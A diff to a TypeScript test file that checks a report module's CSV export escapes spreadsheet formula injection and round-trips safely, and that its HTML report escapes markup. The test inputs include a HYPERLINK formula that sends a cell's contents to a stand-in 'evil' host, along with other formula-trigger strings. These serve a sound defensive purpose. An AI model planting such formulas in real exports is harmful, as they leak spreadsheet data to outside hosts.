@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { htmlReport } from '../../../src/shared/analysis/html-report.ts';
-import { toCsv, toPlain, type Findings } from '../../../src/shared/analysis/report.ts';
+import { fromCsv, toCsv, toPlain, type Findings } from '../../../src/shared/analysis/report.ts';
 
 const findings: Findings = {
   version: '1.2.3',
@@ -27,6 +27,47 @@ describe('figures taken away', () => {
     expect(toCsv(findings)).toBe('frame,seconds,sky,"a ""sign"", red"\n0,0,0.25,0.75\n2,0.08,1,0\n');
   });
 
+  it('run nothing in a spreadsheet, and are read back as they were', () => {
+    const names = [
+      '=HYPERLINK("http://evil/?"&A1,"x")',
+      '-2',
+      '\tcmd',
+      '＝1',
+      'a;=1',
+      '__proto__',
+      'a,b"c\nd',
+      'twice',
+      'twice',
+    ];
+    const classes = names.map((name, id) => ({ id, name }));
+    const shares = names.map((_, id) => id / 36);
+    const csv = toCsv({
+      ...findings,
+      model: { ...findings.model, classes },
+      frames: [{ index: 7, timestamp: -0.25, shares: Float32Array.from(shares) }],
+    });
+    const [head = ''] = csv.split('\n');
+    expect(head).toContain(
+      `frame,seconds,"'=HYPERLINK(""http://evil/?""&A1,""x"")",'-2,"'\tcmd",'＝1,"a;'=1",__proto__,`,
+    );
+    const back = fromCsv(csv);
+    expect(back.classes).toEqual(names);
+    expect(back.frames).toMatchObject([{ index: 7, timestamp: -0.25 }]);
+    expect(Array.from(back.frames[0]?.shares ?? [], (share) => share.toFixed(6))).toEqual(
+      shares.map((share) => share.toFixed(6)),
+    );
+  });
+
+  it.each([
+    ['', 'does not begin'],
+    ['a,b\n1,2\n', 'does not begin'],
+    ['frame,seconds,sky\n0,0\n', 'row 2 does not hold 3 numbers'],
+    ['frame,seconds,sky\n0,0,much\n', 'row 2'],
+    ['frame,seconds,"sk"y\n', 'quote'],
+  ])('are read from nothing else: %j', (text, words) => {
+    expect(() => fromCsv(text)).toThrow(words);
+  });
+
   it('say what it takes to make them again, and survive JSON', () => {
     expect(JSON.parse(JSON.stringify(toPlain(findings)))).toEqual({
       perpixel: '1.2.3',
@@ -44,11 +85,12 @@ describe('figures taken away', () => {
   it('make a page that stands alone and shows names as text', () => {
     const classes = [
       { id: 0, name: '<b>sky</b>', colour: '#0000ff' },
-      { id: 1, name: 'sign', colour: '#ff0000' },
+      { id: 1, name: '=1+1', colour: '#ff0000' },
     ];
     const page = htmlReport(findings, classes, 'drive & <script>.mp4');
     expect(page).toContain('drive &amp; &lt;script>.mp4');
     expect(page).toContain('&lt;b>sky&lt;/b>');
+    expect(page).toContain('</i>&#39;=1+1</th>');
     expect(page).not.toMatch(/<script|https?:|src=/);
     expect(page.match(/<polygon/g)).toHaveLength(2);
     expect(page).toContain('62.50 %');
